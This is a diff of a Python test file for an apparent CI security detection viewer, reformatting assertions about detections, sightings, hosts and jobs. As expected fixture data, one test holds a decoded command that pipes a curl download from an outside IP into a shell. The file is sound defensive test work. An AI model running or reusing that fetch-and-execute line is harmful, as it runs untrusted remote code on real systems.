@@ -126,7 +126,7 @@ def test_one_detection_shows_the_text_layers_reasons_chain_and_what_to_do(viewer
         DECODED,
         'import os; os.system("curl -s http://198.51.100.7/x | sh")',
     ]
-    assert [each["words"] for each in data["chain"]][0] == "make -j2"
+    assert data["chain"][0]["words"] == "make -j2"
     assert [guide["environment"] for guide in data["guides"]] == ["production"]
     assert sum(reason["points"] for reason in data["reasons"]) >= data["group"]["score"]
     text = viewer.get(f"/detections/{name}").text
@@ -140,7 +140,12 @@ def test_other_sightings_are_listed_and_each_can_be_looked_at(viewer: TestClient
     data = viewer.get(f"/detections/{name}.json").json()
     assert [row["host"] for row in data["sightings"]] == ["ci-1", "ci-2"]
     older = data["sightings"][1]["uid"]
-    assert viewer.get(f"/detections/{name}.json", params={"sighting": older}).json()["record"]["execution"]["context"]["host.name"] == "ci-2"
+    assert (
+        viewer.get(f"/detections/{name}.json", params={"sighting": older}).json()["record"]["execution"]["context"][
+            "host.name"
+        ]
+        == "ci-2"
+    )
     assert len(viewer.get(f"/detections/{name}/sightings.json").json()["rows"]) == 2
     assert viewer.get(f"/detections/{name}", params={"sighting": "0" * 32}).status_code == 404
     other = viewer.get("/detections.json?q=interpreter:ruby").json()["rows"][0]["uid"]
@@ -153,7 +158,13 @@ def test_hosts_and_jobs_say_how_much_and_how_bad(viewer: TestClient) -> None:
     assert hosts["web-9"]["sensors"] == ["ebpf silent"]
     assert [row["host"] for row in viewer.get("/hosts.json?like=CI-").json()["rows"]] == ["ci-1", "ci-2"]
     (job,) = viewer.get("/jobs.json").json()["rows"]
-    assert (job["repository"], job["name"], job["runs"], job["sightings"], job["level"]) == ("acme/shop", "build", 1, 62, "high")
+    assert (job["repository"], job["name"], job["runs"], job["sightings"], job["level"]) == (
+        "acme/shop",
+        "build",
+        1,
+        62,
+        "high",
+    )
     assert viewer.get("/jobs.json?like=nothing").json()["rows"] == []
 
 
